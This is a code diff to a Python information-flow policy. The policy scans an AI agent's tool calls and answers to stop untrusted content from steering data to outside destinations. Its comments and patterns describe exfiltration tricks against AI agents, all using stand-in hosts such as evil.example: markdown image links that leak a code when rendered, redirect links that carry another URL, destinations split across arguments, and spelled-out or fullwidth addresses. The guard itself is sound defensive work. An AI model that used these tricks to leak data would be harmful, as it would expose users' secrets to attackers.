@@ -23,6 +23,7 @@ a value that came from sensitive output is never repeated.
 from __future__ import annotations
 
 import fnmatch
+import itertools
 import re
 from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
 
@@ -146,7 +147,7 @@ def _shown(url: str) -> str:
         ),
     },
 )
-@listens_to(types=("tool_call",))
+@listens_to(types=("tool_call", "response"))
 def information_flow(
     on_violation: str = "ask",
     require_taint: bool = True,
@@ -160,15 +161,21 @@ def information_flow(
     allow = _Allow(list(always_grounded or []))
     only = [re.compile(fnmatch.translate(t)) for t in tools] if tools else None
 
-    def ok(prov: Provenance, value: str) -> bool:
+    def bad(prov: Provenance, value: str) -> str | None:
+        """The value to explain if ``value`` is not grounded (itself, or a link it carries), else None."""
         keys = kinds_for(value)
         kind = keys[0].split(":", 1)[0] if keys and value.strip() else "text"
         if allow.covers(value, kind) or prov.grounded_keys(keys):
-            return True
+            # a link carrying another (a redirect's `?url=`) is only as good as the link it carries
+            carried = _carried(value, keys[0]) if kind == "url" else ()
+            return next((b for v in carried if (b := bad(prov, v)) is not None), None)
         # free text is grounded word by word, unless it spells a destination (`https://x y`, `a@b c`)
-        return kind == "text" and prov.grounded_words(value) and not _spells_destination(value)
+        grounded = kind == "text" and prov.grounded_words(value) and not _spells_destination(value)
+        return None if grounded else value
 
     def policy(event: PolicyEvent) -> PolicyResponse | None:
+        if event["type"] == "response":
+            return _answer(event, bad, verdict, require_taint)
         if event["type"] != "tool_call":
             return None
         ctx = event["context"]
@@ -192,12 +199,12 @@ def information_flow(
         sink_values = list(_texts(args, sinks))
         destinations = [value for _, value in sink_values]
         if check:
-            problems += [_explain(prov, path, value) for path, value in sink_values if not ok(prov, value)]
+            problems += [_explain(prov, path, b) for path, value in sink_values if (b := bad(prov, value)) is not None]
             if check_content:  # integrity: what the content links to
-                problems += _ungrounded_links(prov, ok, _texts(args, content), _CONTENT_KINDS)
+                problems += _ungrounded_links(prov, bad, _texts(args, content), _CONTENT_KINDS)
         kinds = _READ_KINDS if action.get("kind") == "read" else _WRITE_KINDS
         if check:
-            problems += _ungrounded_links(prov, ok, others, kinds)
+            problems += _ungrounded_links(prov, bad, others, kinds)
         if secrecy and prov.sensitive_seen:
             destinations += [value for _, text in others for _, value in _links(text, kinds)]
             if any(not allow.covers(d) for d in destinations):
@@ -215,7 +222,8 @@ def information_flow(
 _CONTENT_KINDS = ("email", "url", "iban", "phone", "domain")
 _WRITE_KINDS = ("email", "url", "iban", "domain")
 _READ_KINDS = ("url", "domain")
-_MAY_LINK = re.compile(r"[@.\d]")  # every link, address, domain, IBAN and phone number holds one
+#: Every link, address, domain, IBAN and phone number holds one (``bob [at] evil [dot] example`` a spelled ``at``).
+_MAY_LINK = re.compile(r"[@.\d%:&]|\bat\b", re.IGNORECASE)
 
 
 def _texts(args: Mapping[str, object], paths: Iterable[str]) -> Iterator[tuple[str, str]]:
@@ -232,7 +240,12 @@ def _undeclared(args: Mapping[str, object], paths: Sequence[str]) -> list[tuple[
     for key, value in args.items():
         if key not in covered and not isinstance(value, (bool, int, float)) and value is not None:
             out.extend((key, s) for s in _strings(value) if not _is_number(s))
+    # a destination split across two arguments (`host: hooks.evil-collect`, `suffix: .support`) is read joined
+    out += [(k, a + b) for (_, a), (k, b) in itertools.pairwise(out) if a[-1:] in _JOINTS or b[:1] in _JOINTS]
     return out
+
+
+_JOINTS = frozenset(".@:/")
 
 
 def _is_number(text: str) -> bool:
@@ -252,13 +265,78 @@ def _links(text: str, kinds: Sequence[str]) -> Iterator[tuple[str, str]]:
 
 
 def _ungrounded_links(
-    prov: Provenance, ok: Callable[[Provenance, str], bool], texts: Iterable[tuple[str, str]], kinds: Sequence[str]
+    prov: Provenance,
+    bad: Callable[[Provenance, str], str | None],
+    texts: Iterable[tuple[str, str]],
+    kinds: Sequence[str],
 ) -> list[str]:
     out: list[str] = []
     for path, text in texts:
         if _MAY_LINK.search(text) or not text.isascii():  # (`evil。example`, fullwidth `ｅｖｉｌ．ｅｘａｍｐｌｅ`)
-            out += [_explain(prov, path, v, inside=True) for _, v in _links(text, kinds) if not ok(prov, v)]
+            found = (bad(prov, v) for _, v in _links(text, kinds))
+            out += [_explain(prov, path, b, inside=True) for b in dict.fromkeys(found) if b is not None]
     return out
+
+
+def _carried(link: str, key: str) -> Iterator[str]:
+    """The links a link carries after its host (``?url=https%3A%2F%2F…``), found as provenance finds them."""
+    if "//" in link.split("//", 1)[-1] or "%" in link or "@" in link:
+        for kind, value in extract_values(link, words=False):
+            if kind == "url" and f"url:{value}" != key:
+                yield value
+
+
+#: What a chat client fetches by itself when it shows an answer: markdown images (inline and by reference),
+#: HTML ``src`` attributes and CSS ``url(…)``.
+_FETCHED = re.compile(
+    r"!\[[^\]]*\]\(\s*<?([^\s)>]+)|!\[[^\]]*\]\[([^\]]*)\]|\bsrc\s*=\s*[\"']?([^\"'\s>]+)|\burl\(\s*[\"']?([^\"')\s]+)",
+    re.IGNORECASE,
+)
+_INERT_IMAGE = re.compile(r"data:image/(?:png|gif|jpe?g|webp|bmp|avif)[;,]", re.IGNORECASE)
+
+
+def _answer(
+    event: PolicyEvent, bad: Callable[[Provenance, str], str | None], verdict: Verdict, require_taint: bool
+) -> PolicyResponse | None:
+    """The agent's answer: an image it shows is fetched when the answer is rendered, so its link is a
+    destination (``![](https://evil.example/p.png?c=<code>)`` leaks the code without a click)."""
+    data = event.get("data")
+    texts = [data] if isinstance(data, str) else _strings(data)
+    ctx = event["context"]
+    prov: Provenance = ctx.get("provenance") or EMPTY
+    if require_taint and not prov.tainted and UNTRUSTED_LABEL not in (ctx.get("labels") or {}):
+        return None
+    problems: list[str] = []
+    for text in texts:
+        if "!" not in text and "src" not in text.lower() and "url(" not in text.lower():
+            continue
+        for link in _fetched(text):
+            if _INERT_IMAGE.match(link) or not _names_host(link):
+                continue  # (`![](diagram.png)`: the client's own origin)
+            if (b := bad(prov, link)) is not None:
+                problems.append(_explain(prov, "answer", b, inside=True).replace("link", "image", 1))
+    if not problems:
+        return None
+    return {"result": verdict, "reason": "answer: " + "; ".join(problems[:_MAX_REPORTED])}
+
+
+_REFERENCE = re.compile(r"^\s*\[([^\]]+)\]:\s*<?([^\s>]+)", re.MULTILINE)
+
+
+def _fetched(text: str) -> Iterator[str]:
+    refs: dict[str, str] | None = None
+    for m in _FETCHED.finditer(text):
+        link = m.group(1) or m.group(3) or m.group(4)
+        if m.group(2) is not None:  # `![x][ref]` with `[ref]: https://…` somewhere in the answer
+            if refs is None:
+                refs = {r[1].strip().lower(): r[2] for r in _REFERENCE.finditer(text)}
+            link = refs.get(m.group(2).strip().lower())
+        if link:
+            yield link
+
+
+def _names_host(link: str) -> bool:
+    return any(kind in ("url", "domain") for kind, _ in extract_values(link, words=False))
 
 
 def _spells_destination(value: str) -> bool:
